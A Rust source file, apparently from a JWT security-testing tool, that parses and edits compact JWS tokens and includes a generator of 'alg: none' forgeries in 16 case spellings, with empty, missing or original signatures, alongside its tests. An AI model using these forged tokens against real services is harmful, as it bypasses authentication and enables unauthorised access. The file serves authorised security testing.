use crate::b64;
use crate::error::JoseError;
use serde_json::Value;

/// A compact JWS split into its parts.
///
/// The three base64url segments are kept exactly as they were read, so [`Jws::to_compact`]
/// gives back the input byte for byte, and the `with_*` editors re-encode only the part they
/// change.
#[derive(Clone, Debug, PartialEq)]
pub struct Jws {
    header_b64: String,
    payload_b64: String,
    /// `None` when the token had only two segments (`header.payload`).
    signature_b64: Option<String>,
    header: Value,
    payload_bytes: Vec<u8>,
    payload: Option<Value>,
    signature: Vec<u8>,
}

impl Jws {
    /// Splits and decodes a compact JWS. Surrounding whitespace and a `Bearer ` prefix are
    /// ignored. Two segments (no signature segment at all) are accepted, as attacks produce
    /// them; the payload may be any bytes (see [`Jws::payload`]); the header must be a JSON
    /// object with an `alg`.
    pub fn parse(token: &str) -> Result<Jws, JoseError> {
        let mut t = token.trim();
        for prefix in ["Bearer ", "bearer ", "BEARER "] {
            if let Some(rest) = t.strip_prefix(prefix) {
                t = rest.trim();
            }
        }
        if t.is_empty() {
            return Err(JoseError::EmptyToken);
        }
        let parts: Vec<&str> = t.split('.').collect();
        match parts.len() {
            2 | 3 => {}
            5 => return Err(JoseError::Jwe),
            n => return Err(JoseError::SegmentCount { found: n }),
        }
        if parts[0].is_empty() {
            return Err(JoseError::EmptySegment {
                segment: "header",
                index: 1,
            });
        }
        let header_bytes = b64::decode(parts[0]).map_err(|detail| JoseError::Base64 {
            segment: "header",
            index: 1,
            detail,
        })?;
        let header: Value = serde_json::from_slice(&header_bytes).map_err(|e| JoseError::Json {
            segment: "header",
            index: 1,
            detail: e.to_string(),
        })?;
        if !header.is_object() {
            return Err(JoseError::HeaderNotObject);
        }
        if header.get("alg").is_none() {
            return Err(JoseError::MissingAlg);
        }
        let payload_bytes = b64::decode(parts[1]).map_err(|detail| JoseError::Base64 {
            segment: "payload",
            index: 2,
            detail,
        })?;
        let payload = serde_json::from_slice(&payload_bytes).ok();
        let (signature_b64, signature) = match parts.get(2) {
            Some(s) => {
                let sig = b64::decode(s).map_err(|detail| JoseError::Base64 {
                    segment: "signature",
                    index: 3,
                    detail,
                })?;
                (Some(s.to_string()), sig)
            }
            None => (None, Vec::new()),
        };
        Ok(Jws {
            header_b64: parts[0].to_string(),
            payload_b64: parts[1].to_string(),
            signature_b64,
            header,
            payload_bytes,
            payload,
            signature,
        })
    }

    /// Builds an unsigned JWS (`header.payload.`) from JSON values; sign it with
    /// [`Jws::signed`] or [`crate::sign_token`].
    pub fn from_parts(header: &Value, payload: &Value) -> Jws {
        let payload_bytes = serde_json::to_vec(payload).expect("JSON value serialises");
        Jws {
            header_b64: encode_json_segment(header),
            payload_b64: b64::encode(&payload_bytes),
            signature_b64: Some(String::new()),
            header: header.clone(),
            payload_bytes,
            payload: Some(payload.clone()),
            signature: Vec::new(),
        }
    }

    /// The compact serialisation: the original text for a parsed token, with only edited
    /// segments re-encoded.
    pub fn to_compact(&self) -> String {
        match &self.signature_b64 {
            Some(s) => format!("{}.{}.{}", self.header_b64, self.payload_b64, s),
            None => format!("{}.{}", self.header_b64, self.payload_b64),
        }
    }

    /// `header_b64 + "." + payload_b64`, the bytes the signature covers.
    pub fn signing_input(&self) -> String {
        format!("{}.{}", self.header_b64, self.payload_b64)
    }

    /// The header segment exactly as read.
    pub fn header_b64(&self) -> &str {
        &self.header_b64
    }
    /// The payload segment exactly as read.
    pub fn payload_b64(&self) -> &str {
        &self.payload_b64
    }
    /// The signature segment exactly as read (`None` when the token had two segments).
    pub fn signature_b64(&self) -> Option<&str> {
        self.signature_b64.as_deref()
    }
    /// The decoded header (a JSON object, members in their original order).
    pub fn header(&self) -> &Value {
        &self.header
    }
    /// The decoded payload when it is JSON (claims), `None` otherwise.
    pub fn payload(&self) -> Option<&Value> {
        self.payload.as_ref()
    }
    /// The decoded payload bytes.
    pub fn payload_bytes(&self) -> &[u8] {
        &self.payload_bytes
    }
    /// The decoded signature bytes (empty for `h.p.` and `h.p`).
    pub fn signature(&self) -> &[u8] {
        &self.signature
    }
    /// The header's `alg` when it is a string.
    pub fn alg(&self) -> Option<&str> {
        self.header.get("alg").and_then(Value::as_str)
    }
    /// A header member as a string (`kid`, `typ`, ...).
    pub fn header_str(&self, name: &str) -> Option<&str> {
        self.header.get(name).and_then(Value::as_str)
    }

    /// A copy with a new header (re-encoded); payload and signature segments unchanged.
    pub fn with_header(&self, header: &Value) -> Jws {
        Jws {
            header_b64: encode_json_segment(header),
            header: header.clone(),
            ..self.clone()
        }
    }

    /// A copy with one header member set (or removed with `None`), the rest kept in order.
    pub fn with_header_member(&self, name: &str, value: Option<Value>) -> Jws {
        let mut h = self.header.clone();
        if let Some(obj) = h.as_object_mut() {
            match value {
                Some(v) => {
                    obj.insert(name.to_string(), v);
                }
                None => {
                    obj.shift_remove(name);
                }
            }
        }
        self.with_header(&h)
    }

    /// A copy with new claims (re-encoded); header and signature segments unchanged.
    pub fn with_payload(&self, payload: &Value) -> Jws {
        let payload_bytes = serde_json::to_vec(payload).expect("JSON value serialises");
        Jws {
            payload_b64: b64::encode(&payload_bytes),
            payload_bytes,
            payload: Some(payload.clone()),
            ..self.clone()
        }
    }

    /// A copy with one claim set (or removed with `None`). A non-JSON payload becomes `{}` first.
    pub fn with_claim(&self, name: &str, value: Option<Value>) -> Jws {
        let mut p = self
            .payload
            .clone()
            .filter(Value::is_object)
            .unwrap_or_else(|| Value::Object(Default::default()));
        let obj = p.as_object_mut().expect("object");
        match value {
            Some(v) => {
                obj.insert(name.to_string(), v);
            }
            None => {
                obj.shift_remove(name);
            }
        }
        self.with_payload(&p)
    }

    /// A copy with the given raw signature bytes (base64url encoded).
    pub fn with_signature(&self, signature: &[u8]) -> Jws {
        Jws {
            signature_b64: Some(b64::encode(signature)),
            signature: signature.to_vec(),
            ..self.clone()
        }
    }

    /// A copy whose signature has its last byte flipped (a signature that must fail).
    /// An empty signature becomes 32 bytes of `0x41`.
    pub fn with_corrupted_signature(&self) -> Jws {
        let mut sig = self.signature.clone();
        match sig.last_mut() {
            Some(b) => *b ^= 0x01,
            None => sig = vec![0x41; 32],
        }
        self.with_signature(&sig)
    }

    /// A copy with an empty signature segment (`header.payload.`).
    pub fn with_empty_signature(&self) -> Jws {
        Jws {
            signature_b64: Some(String::new()),
            signature: Vec::new(),
            ..self.clone()
        }
    }

    /// A copy without the signature segment at all (`header.payload`).
    pub fn without_signature_segment(&self) -> Jws {
        Jws {
            signature_b64: None,
            signature: Vec::new(),
            ..self.clone()
        }
    }

    /// Re-signs: sets `alg` in the header (keeping the other members) and signs with `key`.
    pub fn signed(&self, alg: crate::Alg, key: &crate::Key) -> Result<Jws, JoseError> {
        let with_alg = self.with_header_member("alg", Some(Value::String(alg.as_str().into())));
        let sig = crate::sign(alg, key, with_alg.signing_input().as_bytes())?;
        Ok(with_alg.with_signature(&sig))
    }
}

/// Encodes a JSON value as a JWS segment: compact JSON (members in the value's order), then
/// base64url without padding.
pub fn encode_json_segment(value: &Value) -> String {
    b64::encode(serde_json::to_vec(value).expect("JSON value serialises"))
}

/// The 16 case forms of `none` tried against servers: every upper/lower combination of the
/// four letters (`none`, `None`, `NONE`, `nOnE`, ...).
pub const NONE_CASE_FORMS: [&str; 16] = [
    "none", "nonE", "noNe", "noNE", "nOne", "nOnE", "nONe", "nONE", "None", "NonE", "NoNe", "NoNE",
    "NOne", "NOnE", "NONe", "NONE",
];

/// How the signature of an `alg: none` token is written.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum NoneSignature {
    /// `header.payload.` (what RFC 7519 prescribes for unsecured JWTs)
    Empty,
    /// `header.payload` (no third segment)
    Missing,
    /// the original signature kept (`header.payload.sig`)
    Original,
}

impl NoneSignature {
    pub fn as_str(self) -> &'static str {
        match self {
            NoneSignature::Empty => "empty signature",
            NoneSignature::Missing => "no signature segment",
            NoneSignature::Original => "original signature kept",
        }
    }
}

/// One `alg: none` forgery.
#[derive(Clone, Debug, PartialEq)]
pub struct NoneToken {
    /// The `alg` value used (one of [`NONE_CASE_FORMS`]).
    pub alg: &'static str,
    pub signature: NoneSignature,
    pub token: String,
}

/// Every `alg: none` variant of `jws` with its claims unchanged: the 16 case forms of `none`,
/// each with an empty signature and with no signature segment (32 tokens), followed by the
/// four common forms (`none`, `None`, `NONE`, `nOnE`) keeping the original signature.
/// Use [`Jws::with_payload`] first to forge claims.
pub fn none_variants(jws: &Jws) -> Vec<NoneToken> {
    let mut out = Vec::with_capacity(36);
    for &alg in &NONE_CASE_FORMS {
        let t = jws.with_header_member("alg", Some(Value::String(alg.to_string())));
        out.push(NoneToken {
            alg,
            signature: NoneSignature::Empty,
            token: t.with_empty_signature().to_compact(),
        });
        out.push(NoneToken {
            alg,
            signature: NoneSignature::Missing,
            token: t.without_signature_segment().to_compact(),
        });
    }
    for alg in ["none", "None", "NONE", "nOnE"] {
        let alg = NONE_CASE_FORMS.iter().find(|a| **a == alg).expect("listed");
        let t = jws.with_header_member("alg", Some(Value::String(alg.to_string())));
        out.push(NoneToken {
            alg,
            signature: NoneSignature::Original,
            token: t.to_compact(),
        });
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use serde_json::json;

    #[test]
    fn none_forms_are_16_distinct_spellings() {
        let mut v: Vec<_> = NONE_CASE_FORMS.to_vec();
        v.sort();
        v.dedup();
        assert_eq!(v.len(), 16);
        assert!(v.iter().all(|s| s.eq_ignore_ascii_case("none")));
    }

    #[test]
    fn errors_are_clear() {
        assert_eq!(Jws::parse("  ").unwrap_err(), JoseError::EmptyToken);
        assert_eq!(
            Jws::parse("abc").unwrap_err(),
            JoseError::SegmentCount { found: 1 }
        );
        assert_eq!(Jws::parse("a.b.c.d.e").unwrap_err(), JoseError::Jwe);
        let e = Jws::parse("eyJhbGciOiJIUzI1NiJ9.e30.a*b").unwrap_err();
        assert!(e.to_string().contains("signature segment"), "{e}");
        let e = Jws::parse("e30.e30.").unwrap_err();
        assert_eq!(e, JoseError::MissingAlg);
        let e = Jws::parse("bm90IGpzb24.e30.").unwrap_err();
        assert!(
            e.to_string()
                .contains("header segment (segment 1) is not JSON")
        );
    }

    #[test]
    fn none_variants_shape() {
        let j = Jws::from_parts(&json!({"alg":"HS256","typ":"JWT"}), &json!({"sub":"a"}))
            .with_signature(b"sig");
        let v = none_variants(&j);
        assert_eq!(v.len(), 36);
        let first = Jws::parse(&v[0].token).unwrap();
        assert_eq!(first.alg(), Some("none"));
        assert_eq!(first.header_str("typ"), Some("JWT"));
        assert!(v[0].token.ends_with('.'));
        assert_eq!(v[1].token.matches('.').count(), 1);
        assert_eq!(first.payload_b64(), j.payload_b64());
    }

    fn json_value() -> impl Strategy<Value = Value> {
        let leaf = prop_oneof![
            any::<i64>().prop_map(Value::from),
            "[a-zA-Z0-9 _.~\u{e9}\u{1F600}]{0,12}".prop_map(Value::from),
            any::<bool>().prop_map(Value::from),
        ];
        leaf.prop_recursive(3, 16, 4, |inner| {
            prop::collection::btree_map("[a-z]{1,6}", inner, 0..4)
                .prop_map(|m| Value::Object(m.into_iter().collect()))
        })
    }

    proptest! {
        #[test]
        fn split_join_is_byte_exact(
            h in prop::collection::btree_map("[a-z]{1,5}", "[ -~]{0,10}", 0..4),
            p in proptest::collection::vec(any::<u8>(), 0..120),
            s in proptest::collection::vec(any::<u8>(), 0..70),
            padded in any::<bool>(),
        ) {
            let mut hv = serde_json::Map::new();
            hv.insert("alg".into(), Value::from("HS256"));
            for (k, v) in h { hv.insert(k, Value::from(v)); }
            let enc = |b: &[u8]| if padded { b64::encode_padded(b) } else { b64::encode(b) };
            let token = format!(
                "{}.{}.{}",
                enc(&serde_json::to_vec(&Value::Object(hv.clone())).unwrap()),
                enc(&p),
                enc(&s)
            );
            let j = Jws::parse(&token).unwrap();
            prop_assert_eq!(j.to_compact(), token.clone());
            prop_assert_eq!(j.payload_bytes(), &p[..]);
            prop_assert_eq!(j.signature(), &s[..]);
            prop_assert_eq!(j.header(), &Value::Object(hv));
            // Editing the payload keeps the header and signature segments exactly.
            let edited = j.with_claim("x", Some(Value::from(1)));
            let e = Jws::parse(&edited.to_compact()).unwrap();
            prop_assert_eq!(e.header_b64(), j.header_b64());
            prop_assert_eq!(e.signature_b64(), j.signature_b64());
        }

        #[test]
        fn from_parts_round_trips(h in json_value(), p in json_value()) {
            let mut hv = serde_json::Map::new();
            hv.insert("alg".into(), Value::from("none"));
            hv.insert("x".into(), h);
            let hv = Value::Object(hv);
            let j = Jws::from_parts(&hv, &p);
            let back = Jws::parse(&j.to_compact()).unwrap();
            prop_assert_eq!(back.header(), &hv);
            prop_assert_eq!(back.payload(), Some(&p));
        }

        #[test]
        fn parse_never_panics(s in "[A-Za-z0-9_\\-.=+/ ]{0,80}") {
            let _ = Jws::parse(&s);
        }
    }
}
